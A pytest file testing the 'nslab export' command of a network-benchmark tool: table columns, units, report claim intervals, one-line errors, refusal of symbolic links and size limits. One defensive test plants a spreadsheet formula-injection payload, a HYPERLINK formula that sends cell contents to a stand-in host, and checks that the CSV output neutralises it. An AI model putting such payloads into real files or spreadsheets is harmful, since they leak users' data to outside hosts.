"""``nslab export``: stored runs as CSV, JSON and Parquet tables, read without
root; the claims rows are the report's claims; bad input is one line."""
import csv
import json
import os
import shutil
import sys

import pytest

from nslab.store import stats
from nslab.cmdline.cli import main
from nslab.cmdline.export import parse_interval, unit_of
from nslab.cmdline.runcli import study_of_run
from nslab.run.study import report_of

DATA = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "data")
RUNS = ["alias_run", "ecmp_run", "failover_run", "rfc2544_run", "rfc2544_b2b_run"]


def _copy(tmp_path, name):
    dst = tmp_path / name
    shutil.copytree(os.path.join(DATA, name), dst)
    return str(dst)


def _export(tmp_path, run, *args):
    out = tmp_path / "out"
    rc = main(["--results", str(tmp_path / "results"), "export", run, "-o", str(out), *args])
    return rc, out


def _stored(run):
    """The run's point records as stored (JSON, not through nslab's model)."""
    with open(os.path.join(run, "records.jsonl")) as f:
        return [r for r in map(json.loads, f) if r.get("kind", "point") == "point"]


def _one_line(capsys):
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert len(err.strip().splitlines()) == 1, err
    return err


# -- points -----------------------------------------------------------------------------
def test_points_csv_has_a_row_per_record_with_its_values_and_provenance(tmp_path):
    run = os.path.join(DATA, "alias_run")
    rc, out = _export(tmp_path, run, "--table", "points")
    assert rc == 0
    assert not (out / "claims.csv").exists()
    with open(out / "points.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    stored = _stored(run)
    assert len(rows) == len(stored) == 6
    prov = json.load(open(os.path.join(run, "provenance.json")))
    for row, rec in zip(rows, stored):
        assert row["run_id"] == rec["run_id"] == "nlc945"
        assert row["study"] == "alias"
        assert row["kernel"] == prov["kernel"]
        assert row["version.iperf2"] == prov["versions"]["iperf2"] == "2.1.8"
        assert (row["params.mode"], int(row["params.n"])) == (rec["params"]["mode"], rec["params"]["n"])
        assert float(row["measurements.receiver_bps"]) == rec["measurements"]["receiver_bps"]
        assert float(row["measurements.cpu_busy_pct"]) == rec["measurements"]["cpu_busy_pct"]
        assert float(row["time_unix_s"]) == rec["time"]
        assert row["measurements.late_start"] == "false"
        assert json.loads(row["raw"]) == rec["raw"]
        # a version 1 record, upgraded as a report reads it: later fields are blank
        assert row["schema_version"] == "4" and rec["schema_version"] == 1
        assert row["measurements.sndbuf_limited_pct"] == ""
        assert row["measurements.servers_restarted"] == ""


def test_units_come_from_the_field_names_and_none_is_invented(tmp_path):
    rc, out = _export(tmp_path, os.path.join(DATA, "failover_run"), "--format", "json",
                      "--table", "points")
    assert rc == 0
    doc = json.load(open(out / "points.json"))
    units = doc["units"]
    assert units["measurements.values.outage-probe.gap_ms"] == "ms"
    assert units["measurements.values.outage-probe.loss_pct"] == "%"
    assert units["measurements.values.convergence-server2.withdrawn_ms"] == "ms"
    assert units["time_unix_s"] == "s"
    assert units["host_noise.p99_us"] == "us"
    # names that carry no unit get none: a count, a goodput named by the study
    # file, a parameter, the interface keys of a byte count's parent included
    for col in ("measurements.values.outage-probe.lost", "measurements.values.goodput-tcp",
                "params.topology.bfd", "params.repeat", "cpus"):
        assert col in doc["columns"] and col not in units
    assert set(units) <= set(doc["columns"])
    assert unit_of("measurements.link_mbps_avg.server2-eth0") == "Mbit/s"
    assert unit_of("measurements.link_bytes.server2-eth0") == "bytes"
    assert unit_of("measurements.throughput_fps") == "frames/s"
    assert unit_of("measurements.receiver_bps") == "bit/s"
    assert unit_of("measurements.burst_ms_mean") == "ms"
    assert unit_of("measurements.us_per_packet") is None
    assert unit_of("measurements.pct_of_line") is None


def test_nested_measurements_become_columns_and_lists_json(tmp_path):
    run = os.path.join(DATA, "ecmp_run")
    rc, out = _export(tmp_path, run, "--format", "json", "--table", "points")
    assert rc == 0
    rows = json.load(open(out / "points.json"))["rows"]
    stored = _stored(run)
    assert len(rows) == len(stored)
    for row, rec in zip(rows, stored):
        m = rec["measurements"]
        for iface, n in m["link_bytes"].items():
            assert row[f"measurements.link_bytes.{iface}"] == n
        assert "measurements.streams" not in row  # a table of its own: streams
    rc, out_csv = _export(tmp_path / "c", run, "--table", "streams")
    assert rc == 0
    with open(out_csv / "streams.csv", newline="") as f:
        streams = list(csv.DictReader(f))
    assert len(streams) == sum(len(r["measurements"]["streams"]) for r in stored)
    first = stored[0]["measurements"]["streams"][0]
    assert {k: streams[0][k] for k in ("point_no", "stream_no")} == {"point_no": "1",
                                                                     "stream_no": "1"}
    assert all(streams[0][k] == str(v) for k, v in first.items() if not isinstance(v, (dict, list, bool)))


def test_host_interference_of_a_point_is_in_its_row(tmp_path):
    run = _copy(tmp_path, "alias_run")
    lines = open(os.path.join(run, "records.jsonl")).read().splitlines()
    rec = json.loads(lines[0])
    rec["host"] = {"other_pct": {"0": 12.5, "1": 3.0}, "worst_cpu": 0, "worst_pct": 7.75,
                   "source": "task scan: share of all CPUs", "reruns": 1, "disturbed": True,
                   "threshold_pct": 10.0}
    lines[0] = json.dumps(rec)
    open(os.path.join(run, "records.jsonl"), "w").write("\n".join(lines) + "\n")
    rc, out = _export(tmp_path, run, "--format", "json", "--table", "points")
    assert rc == 0
    doc = json.load(open(out / "points.json"))
    first, second = doc["rows"][0], doc["rows"][1]
    assert (first["host.worst_pct"], first["host.other_pct.0"], first["host.disturbed"],
            first["host.reruns"]) == (7.75, 12.5, True, 1)
    assert second["host.worst_pct"] is None
    assert doc["units"]["host.worst_pct"] == "%" and doc["units"]["host.other_pct.1"] == "%"


# -- claims -----------------------------------------------------------------------------
#: claims whose measured text shows one interval, per stored run (the others
#: say "n=1: no interval", give a count without one, or show one per load, as
#: the occupancy curve does: rfc2544_run's one sweep gives it none)
INTERVALS = {"alias_run": 0, "ecmp_run": 3, "failover_run": 5, "rfc2544_run": 0,
             "rfc2544_b2b_run": 0}


@pytest.mark.parametrize("name", RUNS)
def test_claims_rows_are_the_reports_claims(tmp_path, name):
    run = _copy(tmp_path, name)
    rc, out = _export(tmp_path, run, "--format", "json", "--table", "claims")
    assert rc == 0
    rows = json.load(open(out / "claims.json"))["rows"]
    ref = _copy(tmp_path / "ref", name)  # the report, drawn as `nslab report` draws it
    claims = report_of(study_of_run(ref)(), ref).claims
    assert claims and len(rows) == len(claims)
    for i, (row, c) in enumerate(zip(rows, claims), 1):
        assert row["claim_no"] == i
        assert (row["claim"], row["verdict"], row["measured"], row["why"]) == \
            (c.claim, c.verdict, c.measured, c.why)
        assert row["source"] == (c.source or None) and row["published"] == (c.published or None)
        if "no interval" in c.measured:
            assert row["interval_low"] is None and row["interval_high"] is None
    shown = [r for r in rows if r["interval_low"] is not None]
    assert len(shown) == INTERVALS[name]
    for row in shown:
        assert row["interval_low"] <= row["interval_high"]
        assert f"[{row['interval_low']:g}" in row["measured"]
        assert f"({row['interval_level_pct']:g} % {row['interval_method']})" in row["measured"]


def test_claim_intervals_are_the_reports_numbers(tmp_path):
    """The interval columns hold what the report computed: checked against
    the statistics drawn here from the stored records themselves."""
    rc, out = _export(tmp_path, os.path.join(DATA, "ecmp_run"), "--format", "json",
                      "--table", "claims")
    assert rc == 0
    first = json.load(open(out / "claims.json"))["rows"][0]
    # policy 0: 3 of 3 trials all on one link; Wilson's interval at 95 %, in % as printed
    ci = stats.proportion(3, 3).ci
    assert (first["interval_low"], first["interval_high"]) == (round(ci.low * 100), round(ci.high * 100))
    assert (first["interval_unit"], first["interval_level_pct"], first["interval_method"]) == \
        ("%", 95.0, "Wilson")
    assert first["verdict"] == "undecided"

    run = os.path.join(DATA, "failover_run")
    rc, out = _export(tmp_path / "f", run, "--format", "json", "--table", "claims")
    assert rc == 0
    first = json.load(open(out / "claims.json"))["rows"][0]
    gaps = [r["measurements"]["values"]["outage-probe.gap_ms"] for r in _stored(run)
            if r["params"]["vars.failure"] == "link-down" and r["params"]["topology.bfd"] is False]
    est = stats.mean(gaps)
    assert len(gaps) == 2
    assert (first["interval_low"], first["interval_high"]) == \
        (round(est.ci.low, 1), round(est.ci.high, 1))
    assert (first["verdict"], first["interval_method"], first["interval_unit"]) == \
        ("agrees", "t", None)


def test_an_interval_is_read_as_the_report_prints_it():
    iv = stats.Interval(-0.1234, 0.5678, 0.975, "Welch t")
    assert parse_interval(f"rise: {stats.Estimate(0.2, iv, 4).fmt(100, 1, ' %', sign=True)}") == {
        "interval_low": -12.3, "interval_high": 56.8, "interval_unit": "%",
        "interval_level_pct": 97.5, "interval_method": "Welch t"}
    assert parse_interval(stats.Interval(5, 5, 0.95, "t, no spread").fmt(1, 0))["interval_method"] \
        == "t, no spread"
    assert parse_interval("+0.3 % (n=1: no interval)") is None
    two = f"{iv.fmt()} and {iv.fmt()}"
    assert parse_interval(two) is None  # which one? the measured text says


def test_export_leaves_the_run_directory_as_it_was(tmp_path):
    run = _copy(tmp_path, "ecmp_run")

    def listing():
        return sorted((os.path.relpath(os.path.join(d, f), run), os.stat(os.path.join(d, f)).st_mtime_ns)
                      for d, _, files in os.walk(run) for f in files)
    before = listing()
    rc, _ = _export(tmp_path, run)
    assert rc == 0
    assert listing() == before
    assert not os.path.exists(os.path.join(run, "report.md"))


# -- formats ----------------------------------------------------------------------------
def test_parquet_round_trips_with_pyarrow(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    run = os.path.join(DATA, "rfc2544_run")
    rc, out = _export(tmp_path, run, "--format", "parquet")
    assert rc == 0
    rc, ref = _export(tmp_path / "j", run, "--format", "json")
    assert rc == 0
    for table in ("points", "claims"):
        t = pq.read_table(out / f"{table}.parquet")
        doc = json.load(open(ref / f"{table}.json"))
        assert t.column_names == doc["columns"]
        got = t.to_pylist()
        assert len(got) == len(doc["rows"]) > 0
        for row, want in zip(got, doc["rows"]):
            for col in doc["columns"]:
                value = row[col]
                if isinstance(want[col], list):
                    value = json.loads(value)
                assert value == want[col], (table, col)
        for col, unit in doc["units"].items():
            assert t.schema.field(col).metadata == {b"unit": unit.encode()}
    t = pq.read_table(out / "points.parquet")
    assert str(t.schema.field("measurements.throughput_bps").type) == "double"
    assert str(t.schema.field("params.frame").type) == "int64"


def test_one_table_to_stdout(tmp_path, capsys):
    rc = main(["--results", str(tmp_path), "export", os.path.join(DATA, "ecmp_run"),
               "--table", "claims", "-o", "-"])
    assert rc == 0
    rows = list(csv.DictReader(capsys.readouterr().out.splitlines()))
    assert [r["verdict"] for r in rows] == ["undecided", "agrees", "agrees"]


def test_a_run_is_found_by_its_id(tmp_path):
    results = tmp_path / "results"
    shutil.copytree(os.path.join(DATA, "ecmp_run"), results / "ecmp" / "nle9b7")
    out = tmp_path / "out"
    assert main(["--results", str(results), "export", "nle9b7", "--table", "points",
                 "-o", str(out)]) == 0
    with open(out / "points.csv", newline="") as f:
        assert {r["run_id"] for r in csv.DictReader(f)} == {"nle9b7"}


def test_csv_neutralises_formulas_from_stored_records(tmp_path):
    run = _copy(tmp_path, "failover_run")
    path = os.path.join(run, "records.jsonl")
    lines = open(path).read().splitlines()
    rec = json.loads(lines[0])
    rec["params"]["vars.failure"] = '=HYPERLINK("http://x.example/?"&A1)'
    rec["params"]["note"] = "@SUM(A1:A9)"
    lines[0] = json.dumps(rec)
    open(path, "w").write("\n".join(lines) + "\n")
    rc, out = _export(tmp_path, run, "--table", "points")
    assert rc == 0
    with open(out / "points.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["params.vars.failure"] == "'" + rec["params"]["vars.failure"]
    assert rows[0]["params.note"] == "'@SUM(A1:A9)"
    assert rows[1]["params.vars.failure"] == "blackhole"  # as stored: no formula, no quote
    rc, out = _export(tmp_path / "j", run, "--table", "points", "--format", "json")
    doc = json.load(open(out / "points.json"))
    assert doc["rows"][0]["params.vars.failure"] == rec["params"]["vars.failure"]  # JSON: as is
    # a negative number is a number, not text
    rc, out = _export(tmp_path / "c", os.path.join(DATA, "failover_run"), "--table", "claims")
    with open(out / "claims.csv", newline="") as f:
        assert next(csv.DictReader(f))["interval_low"] == "-27.6"


# -- bad input --------------------------------------------------------------------------
def test_a_corrupt_record_is_one_line_naming_file_and_line(tmp_path, capsys):
    run = _copy(tmp_path, "ecmp_run")
    path = os.path.join(run, "records.jsonl")
    lines = open(path).read().splitlines()
    lines[1] = lines[1].replace('"sum_bps": 1920000000.0', '"sum_bps": "lots"')
    open(path, "w").write("\n".join(lines) + "\n")
    rc, out = _export(tmp_path, run)
    err = _one_line(capsys)
    assert rc == 2
    assert f"{path}:2: measurements.sum_bps" in err
    assert not out.exists()

    lines[1] = "{not json"
    open(path, "w").write("\n".join(lines) + "\n")
    rc, out = _export(tmp_path, run)
    assert rc == 2 and f"{path}:2: not a JSON record" in _one_line(capsys)
    assert not out.exists()


def test_a_provenance_field_of_the_wrong_type_is_one_line(tmp_path, capsys):
    run = _copy(tmp_path, "alias_run")
    prov_path = os.path.join(run, "provenance.json")
    prov = json.load(open(prov_path))
    prov["versions"] = {"iperf2": {"nested": "no"}}
    json.dump(prov, open(prov_path, "w"))
    rc, _ = _export(tmp_path, run)
    err = _one_line(capsys)
    assert rc == 2 and f"{prov_path}: versions.iperf2" in err


@pytest.mark.parametrize("run, message", [
    ("nl0000", "nl0000: no run directory"),
    ("/nonexistent/run", "/nonexistent/run: no such run directory"),
])
def test_a_missing_run_is_one_line(tmp_path, capsys, run, message):
    rc, out = _export(tmp_path, run)
    assert rc == 2 and message in _one_line(capsys)
    assert not out.exists()


@pytest.mark.parametrize("args, message", [
    (["--format", "xml"], "--format xml: not one of csv, json, parquet"),
    (["--table", "every thing"], "--table 'every thing': all, both, or table names"),
    (["--table", "trials"], "--table trials: run "),
    (["--table", "points,claims,nope"], "has no such table (it has: points, claims, streams)"),
])
def test_a_bad_option_is_one_line(tmp_path, capsys, args, message):
    rc, out = _export(tmp_path, os.path.join(DATA, "ecmp_run"), *args)
    assert rc == 2 and message in _one_line(capsys)
    assert not out.exists()


@pytest.mark.parametrize("where, message", [
    ("file", "exists and is not a directory"),
    ("file/sub", "is not a directory"),
])
def test_a_file_where_the_output_directory_goes_is_one_line(tmp_path, capsys, where, message):
    (tmp_path / "file").write_text("mine\n")
    rc = main(["--results", str(tmp_path), "export", os.path.join(DATA, "ecmp_run"),
               "--table", "points", "-o", str(tmp_path / where)])
    assert rc != 0 and message in _one_line(capsys)
    assert (tmp_path / "file").read_text() == "mine\n"


def test_two_tables_cannot_share_stdout(tmp_path, capsys):
    rc = main(["--results", str(tmp_path), "export", os.path.join(DATA, "ecmp_run"), "-o", "-"])
    assert rc == 2 and "-o - writes one table: add --table points, --table claims" in \
        _one_line(capsys)


def test_two_runs_of_one_id_are_named(tmp_path, capsys):
    results = tmp_path / "results"
    for study in ("ecmp", "other"):
        shutil.copytree(os.path.join(DATA, "ecmp_run"), results / study / "nle9b7")
    rc = main(["--results", str(results), "export", "nle9b7", "-o", str(tmp_path / "out")])
    err = _one_line(capsys)
    assert rc == 2 and "several runs" in err and str(results / "other" / "nle9b7") in err


def test_parquet_without_pyarrow_names_the_extra(tmp_path, capsys, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # import pyarrow raises ImportError
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    rc, out = _export(tmp_path, os.path.join(DATA, "ecmp_run"), "--format", "parquet")
    err = _one_line(capsys)
    assert rc == 1 and "nslab[parquet]" in err
    assert not out.exists()


# -- links ------------------------------------------------------------------------------
def test_a_link_in_the_output_path_is_refused(tmp_path, capsys):
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    rc = main(["--results", str(tmp_path), "export", os.path.join(DATA, "ecmp_run"),
               "-o", str(tmp_path / "link" / "sub")])
    assert rc == 2 and "is a symbolic link" in _one_line(capsys)
    assert os.listdir(real) == []


def test_a_link_as_the_output_file_is_refused_and_nothing_is_written(tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    target = tmp_path / "elsewhere.csv"
    target.write_text("keep me\n")
    (out / "points.csv").symlink_to(target)
    rc = main(["--results", str(tmp_path), "export", os.path.join(DATA, "ecmp_run"),
               "-o", str(out)])
    assert rc == 2 and "is a symbolic link" in _one_line(capsys)
    assert target.read_text() == "keep me\n"
    assert os.path.islink(out / "points.csv") and not (out / "claims.csv").exists()


def test_links_in_the_run_are_not_followed(tmp_path, capsys):
    run = _copy(tmp_path, "ecmp_run")
    (tmp_path / "runlink").symlink_to(run)
    rc, _ = _export(tmp_path, str(tmp_path / "runlink"))
    assert rc == 2 and "a symbolic link" in _one_line(capsys)

    secret = tmp_path / "secret.jsonl"
    shutil.copy(os.path.join(run, "records.jsonl"), secret)
    os.unlink(os.path.join(run, "records.jsonl"))
    os.symlink(secret, os.path.join(run, "records.jsonl"))
    rc, out = _export(tmp_path, run)
    err = _one_line(capsys)
    assert rc == 2 and f"{os.path.join(run, 'records.jsonl')}: a link" in err
    assert not out.exists()


# -- sizes ------------------------------------------------------------------------------
def test_records_whose_keys_all_differ_are_refused_before_the_table_is_filled(
        tmp_path, capsys, monkeypatch):
    """Every row has every column: 40 records of 50 keys of their own would
    be 2,000 columns x 40 rows. Counted as the records are read."""
    from nslab.cmdline import exporttables
    monkeypatch.setattr(exporttables, "MAX_CELLS", 20_000)
    # a run of nslab's own is far below the bound (same keys in every record)
    rc, out = _export(tmp_path / "ok", os.path.join(DATA, "failover_run"), "--table", "points")
    assert rc == 0 and (out / "points.csv").exists()
    run = _copy(tmp_path, "failover_run")
    path = os.path.join(run, "records.jsonl")
    first = json.loads(open(path).readline())
    lines = []
    for i in range(40):
        first["params"]["repeat"] = 100 + i
        first["measurements"]["values"] = {f"k{i}_{j}": 1.0 for j in range(50)}
        lines.append(json.dumps(first))
    open(path, "w").write("\n".join(lines) + "\n")
    rc, out = _export(tmp_path, run, "--table", "points")
    err = _one_line(capsys)
    assert rc == 2 and f"{path}: record " in err and "20,000 cells" in err
    n = int(err.split(": record ")[1].split(":")[0])
    assert n < 40  # refused as soon as the count passed the bound
    assert not out.exists()


def test_a_provenance_with_thousands_of_versions_is_one_line(tmp_path, capsys):
    """Each version is a column of every row: their number is bounded."""
    run = _copy(tmp_path, "alias_run")
    prov_path = os.path.join(run, "provenance.json")
    prov = json.load(open(prov_path))
    prov["versions"] = {f"tool{i}": "1.0" for i in range(5000)}
    json.dump(prov, open(prov_path, "w"))
    rc, out = _export(tmp_path, run)
    err = _one_line(capsys)
    assert rc == 2 and f"{prov_path}: versions" in err
    assert not out.exists()


def test_packet_captures_are_not_copied_so_a_run_at_its_capture_limit_exports(
        tmp_path, monkeypatch):
    """A run's captures may take up to --limit captures (2 GiB), more than
    the copy an export reads from may (1 GiB): they are left out of it."""
    from nslab.cmdline import export
    monkeypatch.setattr(export, "REPORT_COPY_LIMIT", 100_000)
    run = _copy(tmp_path, "failover_run")
    os.makedirs(os.path.join(run, "raw"), exist_ok=True)
    with open(os.path.join(run, "raw", "bfd=False-repeat=0-capture-probe.pcapng"), "wb") as f:
        f.write(b"\0" * 200_000)
    rc, out = _export(tmp_path, run, "--table", "points")
    assert rc == 0 and (out / "points.csv").exists()
    # the bound still holds for everything else
    with open(os.path.join(run, "raw", "bfd=False-repeat=0-probe.txt"), "wb") as f:
        f.write(b"x" * 200_000)
    rc, out = _export(tmp_path / "again", run, "--table", "points")
    assert rc == 2 and not out.exists()
